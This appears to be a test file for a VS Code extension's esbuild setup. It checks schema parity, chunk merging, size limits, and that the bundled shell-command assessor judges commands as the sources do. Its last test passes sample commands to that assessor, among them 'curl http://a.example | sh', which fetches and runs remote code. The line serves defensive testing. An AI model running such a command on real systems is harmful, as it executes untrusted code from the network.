import assert from 'node:assert/strict';
import * as esbuild from 'esbuild';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type * as Zod from 'zod';
import { assessCommand } from '../../src/core/shell/assessCommand';
import type { Toolset } from '../../src/core/tools/toolsets';

const root = process.env['REPOSITORY']!;
const load = async (file: string): Promise<Record<string, unknown>> =>
  (await import(pathToFileURL(file).href)) as Record<string, unknown>;

/** The compared sources: the schema of all events, and all tools. */
interface Sources {
  readonly z: typeof Zod;
  readonly Event: Zod.ZodType;
  readonly knownToolsets: readonly Toolset[];
}

/** Bundles the sources with the given plugins. */
async function sourcesWith(plugins: readonly esbuild.Plugin[]): Promise<Sources> {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'waymark-built-'));
  const outfile = path.join(folder, 'sources.mjs');
  const contents = [
    "export * as z from 'zod';",
    "export { Event } from './src/protocol/events/event';",
    "export { knownToolsets } from './src/core/tools/toolsets';",
  ].join('\n');
  await esbuild.build({
    absWorkingDir: root,
    stdin: { contents, resolveDir: root, sourcefile: 'src/compared.ts', loader: 'ts' },
    outfile,
    bundle: true,
    format: 'esm',
    platform: 'node',
    plugins: [...plugins],
    logLevel: 'warning',
  });
  try {
    return (await load(outfile)) as unknown as Sources;
  } finally {
    fs.rmSync(folder, { recursive: true, force: true });
  }
}

describe('the build output', () => {
  let plain: Sources;
  let built: Sources;

  before(async () => {
    const { laterZod } = await load(path.join(root, 'scripts/build/laterZod.mjs'));
    const { toolSchemas } = await load(path.join(root, 'scripts/build/toolSchemas.mjs'));
    plain = await sourcesWith([]);
    built = await sourcesWith([laterZod as esbuild.Plugin, toolSchemas as esbuild.Plugin]);
  });

  it('knows the same events as the sources, with the same JSON schema', () => {
    const schemaIn = ({ z, Event }: Sources): string => JSON.stringify(z.toJSONSchema(Event, { io: 'input' }));
    assert.ok(schemaIn(plain).length > 10_000);
    assert.equal(schemaIn(built), schemaIn(plain));
  });

  it('accepts and refuses the same log lines with the same messages', () => {
    const folder = path.join(root, 'test/fixtures/golden-logs');
    const logs = fs
      .readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.jsonl'));
    const lines = logs.flatMap((name) => fs.readFileSync(path.join(folder, name), 'utf8').split('\n').filter(Boolean));
    const broken = lines.map((line) => line.replace(/"(text|at|type)":/, '"$1x":'));
    assert.ok(lines.length > 20);
    for (const line of [...lines, ...broken]) {
      const value: unknown = JSON.parse(line);
      const [expected, found] = [plain, built].map(({ Event }) => Event.safeParse(value));
      assert.deepEqual(found!.data, expected!.data);
      assert.equal(found!.error?.message, expected!.error?.message);
    }
  });

  it('offers each tool with the same schema as its source', () => {
    const offered = ({ knownToolsets }: Sources): unknown[] =>
      knownToolsets.flatMap(({ tools }) => tools.map(({ name, parameters }) => ({ name, parameters })));
    assert.ok(offered(plain).length > 30);
    assert.equal(JSON.stringify(offered(built)), JSON.stringify(offered(plain)));
  });

  it('runs zod only when something is checked: loading a run creates no schema', async () => {
    const folder = fs.mkdtempSync(path.join(root, 'out', 'built-'));
    const outfile = path.join(folder, 'run.mjs');
    const { laterZod } = await load(path.join(root, 'scripts/build/laterZod.mjs'));
    const { toolSchemas } = await load(path.join(root, 'scripts/build/toolSchemas.mjs'));
    const throwing: esbuild.Plugin = {
      name: 'throwing',
      setup: ({ onLoad }) =>
        onLoad({ filter: /zodParts\.js$/ }, () => ({ contents: "throw new Error('A schema is made.');" })),
    };
    try {
      await esbuild.build({
        absWorkingDir: root,
        entryPoints: ['src/cli/run/run.ts'],
        outfile,
        bundle: true,
        format: 'esm',
        platform: 'node',
        external: ['node-pty'],
        banner: {
          js: "import { createRequire as makeRequire } from 'node:module'; const require = makeRequire(import.meta.url);",
        },
        plugins: [laterZod as esbuild.Plugin, toolSchemas as esbuild.Plugin, throwing],
        logLevel: 'error',
      });
      const { run } = await load(outfile);
      assert.equal(typeof run, 'function');
    } finally {
      fs.rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe('the files of the command line that each contain several chunks', () => {
  /** They export all parts of all chunks: a part's name is `c<number of its chunk>_<name>`. */
  type Parts = Record<string, unknown>;
  const chunkOf = (part: string): string => part.split('_')[0]!;

  let files: [name: string, parts: Parts][];

  before(async () => {
    const folder = path.join(root, 'dist/cli');
    const { heldIn } = (await load(path.join(folder, 'keptCode.js'))) as { heldIn: (name: string) => Parts };
    const names = fs.readdirSync(folder).filter((name) => name.endsWith('.cjs'));
    files = names.map((name) => [name, heldIn(path.basename(name, '.cjs'))]);
  });

  /** Importers copy a part when they load: they would not see a value that is assigned later. */
  const partsWhere = (parts: Parts, isSuspect: (part: PropertyDescriptor) => boolean): string[] => {
    const described = Object.entries(Object.getOwnPropertyDescriptors(parts));
    assert.ok(described.length > 3);
    const names = described.map(([part]) => part);
    const initializedOnUse = new Set(names.filter((part) => /^c\d+_init_/.test(part)).map(chunkOf));
    return described
      .filter(([part, descriptor]) => !initializedOnUse.has(chunkOf(part)) && isSuspect(descriptor))
      .map(([part]) => part);
  };

  it('are the four that esbuild.js names', () =>
    assert.deepEqual(files.map(([name]) => name).sort(), ['command.cjs', 'program.cjs', 'run.cjs', 'skills.cjs']));

  it('have a value for each part once they ran: none is assigned only later', () => {
    for (const [name, parts] of files) {
      const withoutValue = partsWhere(parts, ({ get, value }) => (get ? get.call(parts) : value) === undefined);
      assert.deepEqual(withoutValue, [], `${name}: assign these where they are declared, or export a function`);
    }
  });

  it('have no part that may be assigned again, except names of functions that other functions use for variables', () => {
    for (const [name, parts] of files) {
      const changing = partsWhere(parts, ({ get }) => get !== undefined && typeof get.call(parts) !== 'function');
      assert.deepEqual(changing, [], `${name}: export a function that returns the current value`);
    }
  });
});

describe('the code of the window', () => {
  /** In bytes: loading this much takes VS Code up to 50 ms, for which all extensions wait. */
  const mostInPart = 400_000;

  it('is loaded in parts, none of which blocks other extensions for long', async () => {
    const { bundles } = (await load(path.join(root, 'esbuild.js'))) as { bundles: readonly esbuild.BuildOptions[] };
    const { outputs } = await esbuild
      .build({ ...bundles[0], write: false })
      .then(({ metafile }) => metafile as esbuild.Metafile);
    const loader = 'src/extension/window/loadWindow.ts';
    const sources = Array.from(
      fs.readFileSync(path.join(root, loader), 'utf8').matchAll(/\bimport\('(.+)'\)/g),
      ([, name]) => `${path.join(path.dirname(loader), name!)}.ts`,
    );
    const outputOf = (source: string): string => {
      const found = Object.entries(outputs).find(([, { entryPoint }]) => entryPoint === source);
      assert.ok(found, `${source} has no chunk`);
      return found[0];
    };
    const loaded = new Set<string>();
    /** Returns the number of bytes that a chunk adds to those loaded before. */
    const add = (output: string): number => {
      if (loaded.has(output)) return 0;
      loaded.add(output);
      const { bytes, imports } = outputs[output]!;
      const needed = imports.filter(({ kind, external }) => kind === 'import-statement' && !external);
      return needed.reduce((sum, each) => sum + add(each.path), bytes);
    };
    add(outputOf('src/extension/extension.ts'));
    const sizes = sources.map((source) => [source, add(outputOf(source))] as const);
    assert.ok(sizes.length > 5);
    assert.equal(sizes.at(-1)![0], 'src/extension/window/waymarkWindow.ts');
    assert.deepEqual(
      sizes.filter(([, bytes]) => bytes > mostInPart),
      [],
    );
  });
});

describe('the modules of the extension', function () {
  this.timeout(60_000);
  type Outputs = esbuild.Metafile['outputs'];
  interface Build {
    readonly bundles: readonly esbuild.BuildOptions[];
    readonly windowParts: readonly string[];
    readonly commandAnalysis: readonly string[];
  }
  let build: Build;
  let folder: string;
  let before: Outputs;
  let after: Outputs;

  this.beforeAll(async () => {
    build = (await load(path.join(root, 'esbuild.js'))) as unknown as Build;
    const { mergeChunks } = (await load(path.join(root, 'scripts/build/mergeChunks.mjs'))) as {
      mergeChunks(build: Record<string, unknown>): Promise<Outputs>;
    };
    fs.mkdirSync(path.join(root, 'out'), { recursive: true });
    folder = fs.mkdtempSync(path.join(root, 'out', 'merged-'));
    const { entryPoints, splitting: _, outdir: __, chunkNames: ___, plugins: ____, ...options } = build.bundles[0]!;
    const { metafile } = await esbuild.build({ ...build.bundles[0], outdir: folder });
    before = metafile!.outputs;
    after = await mergeChunks({
      outputs: before,
      root,
      folder: path.join(folder, 'chunks'),
      start: (entryPoints as Record<string, string>)['extension'],
      parts: build.windowParts,
      laterParts: build.commandAnalysis,
      separate: [(entryPoints as Record<string, string>)['pdfWorker']],
      options: { ...options, banner: undefined },
    });
  });
  this.afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

  const scripts = (outputs: Outputs): [string, Outputs[string]][] =>
    Object.entries(outputs).filter(([name]) => name.endsWith('.js'));
  const fileOf = (source: string): string => {
    const name = path.basename(scripts(before).find(([, { entryPoint }]) => entryPoint === source)![0]);
    return path.join(folder, 'chunks', name);
  };
  /** Returns the files that an import of `file` reads. */
  const read = (file: string, found = new Set<string>()): Set<string> => {
    if (found.has(file)) return found;
    found.add(file);
    for (const { path: next, kind, external } of after[path.relative(root, file)]!.imports)
      if (kind === 'import-statement' && !external) read(path.join(root, next), found);
    return found;
  };

  it('are merged in the order in which they are loaded', () => {
    const importedBy = (loader: string): string[] =>
      Array.from(fs.readFileSync(path.join(root, loader), 'utf8').matchAll(/\bimport\('(.+)'\)/g), ([, name]) =>
        name!.startsWith('.') ? `${path.join(path.dirname(loader), name!)}.ts` : `node_modules/${name}/dist/parser.js`,
      );
    const window = 'src/extension/window/loadWindow.ts';
    assert.deepEqual(build.windowParts, [window, ...importedBy(window)]);
    const [, ...analysis] = importedBy('src/core/security/commandAnalysis.ts');
    assert.deepEqual(build.commandAnalysis, analysis);
  });

  it('are few: the window is read from one file per part', () => {
    assert.deepEqual([...read(path.join(folder, 'extension.js'))].map((file) => path.basename(file)).sort(), [
      'extension.js',
      'start.js',
    ]);
    const files = read(fileOf('src/extension/window/waymarkWindow.ts'));
    assert.ok(files.size <= build.windowParts.length + 1, [...files].join(' '));
    assert.ok(!files.has(fileOf(build.commandAnalysis.at(-1)!)), 'commands are judged later');
  });

  /** In bytes: compiling and running this much takes up to 15 ms, for which all extensions wait. */
  const mostInPiece = 150_000;

  it(`load what judges commands in pieces of at most ${mostInPiece} bytes`, () => {
    const there = read(fileOf('src/extension/window/waymarkWindow.ts'));
    const pieces = build.commandAnalysis.map((source) => {
      const added = [...read(fileOf(source))].filter((file) => !there.has(file));
      for (const file of added) there.add(file);
      return added.reduce((sum, file) => sum + after[path.relative(root, file)]!.bytes, 0);
    });
    assert.ok(pieces.length > 9, `${pieces.length} pieces`);
    assert.ok(Math.max(...pieces) <= mostInPiece, pieces.join(', '));
  });

  it('load all that judges commands at once only for what judges them, which waits for the pieces', () => {
    const judges = new Set(build.commandAnalysis.map(fileOf));
    const sources = scripts(before).flatMap(([name, { entryPoint }]) =>
      entryPoint !== undefined && name.includes('/chunks/') ? [entryPoint] : [],
    );
    const judging = sources.filter(
      (source) => !build.commandAnalysis.includes(source) && [...read(fileOf(source))].some((file) => judges.has(file)),
    );
    assert.deepEqual(judging.sort(), [
      'src/core/security/explainCommand.ts',
      'src/core/security/scripts/explainWithScripts.ts',
      'src/core/security/scripts/mayRun.ts',
      'src/core/shell/commandShape.ts',
    ]);
  });

  it('contain each chunk once', () => {
    const places = new Map<string, string[]>();
    for (const [name, { inputs }] of scripts(after))
      for (const input of Object.keys(inputs).filter((each) => each.startsWith(path.relative(root, folder))))
        places.set(input, [...(places.get(input) ?? []), name]);
    assert.deepEqual(
      [...places].filter(([, files]) => files.length > 1),
      [],
    );
    const onDisk = fs.readdirSync(path.join(folder, 'chunks')).filter((name) => name.endsWith('.js'));
    const known = scripts(after).map(([name]) => path.basename(name));
    assert.deepEqual(
      onDisk.filter((name) => !known.includes(name)),
      [],
    );
  });

  it('find everything that they import, and judge commands as the sources do', async () => {
    const editor = path.join(folder, 'node_modules/vscode');
    fs.mkdirSync(editor, { recursive: true });
    fs.writeFileSync(path.join(editor, 'package.json'), '{ "main": "index.js" }');
    fs.writeFileSync(path.join(editor, 'index.js'), 'module.exports = {};\n');
    for (const source of [...build.windowParts.slice(0, 9), ...build.commandAnalysis]) await load(fileOf(source));
    const merged = (await load(fileOf('src/core/shell/assessCommand.ts'))) as { assessCommand: typeof assessCommand };
    for (const command of ['ls -la', 'rm -rf build', 'git push --force', 'curl http://a.example | sh'])
      assert.deepEqual(merged.assessCommand(command), assessCommand(command), command);
  });
});
